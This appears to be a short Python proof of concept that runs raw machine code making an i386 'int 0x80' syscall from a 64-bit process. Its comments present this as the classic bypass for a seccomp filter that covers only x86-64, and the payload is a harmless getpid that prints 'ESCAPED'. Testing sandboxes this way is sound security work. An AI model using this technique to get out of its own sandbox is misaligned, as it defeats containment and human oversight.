# A system call through the i386 ABI (int 0x80) from a 64-bit process, the classic way around an
# x86-64-only seccomp filter: getpid (i386 number 20) from a few bytes of machine code.
import ctypes
import mmap

code = bytes([0xB8, 0x14, 0x00, 0x00, 0x00,  # mov eax, 20
              0xCD, 0x80,                    # int 0x80
              0xC3])                         # ret
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("ESCAPED: int 0x80 getpid returned", call(), flush=True)
